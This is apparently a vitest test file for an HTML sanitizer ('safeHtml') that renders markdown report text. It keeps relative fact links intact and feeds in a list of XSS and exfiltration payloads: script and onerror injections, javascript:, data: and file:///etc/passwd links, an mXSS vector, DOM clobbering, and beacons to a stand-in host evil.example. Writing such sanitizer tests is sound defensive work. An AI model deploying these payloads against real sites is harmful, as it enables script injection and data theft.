import { expect, test } from 'vitest';
import { safeHtml } from '../../../main/pipeline/report/safe-html.ts';

test('a number keeps its relative link to its fact', () => {
  expect(safeHtml('Net was [412,300](fact/3).')).toBe(
    '<p>Net was <a href="fact/3">412,300</a>.</p>',
  );
});

test.each([
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '![x](https://evil.example/?d=1)',
  '[x](javascript:alert(1))',
  '[x](data:text/html,x)',
  '[x](file:///etc/passwd)',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><button>x</button></form>',
  '<iframe src=https://evil.example></iframe>',
  '<svg><style>@import url(https://evil.example)</style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a id=go name=api href="//evil.example">x</a>',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '<b style="background:url(https://evil.example)">x</b>',
])('%s leaves nothing that loads, runs or names anything (F01, F02, F06, F07)', (markdown) => {
  expect(safeHtml(markdown)).not.toMatch(
    /<(script|img|meta|form|iframe|svg|style|math|button|b)\b|javascript:|data:|file:|onerror|style=|\bid=|\bname=/i,
  );
});
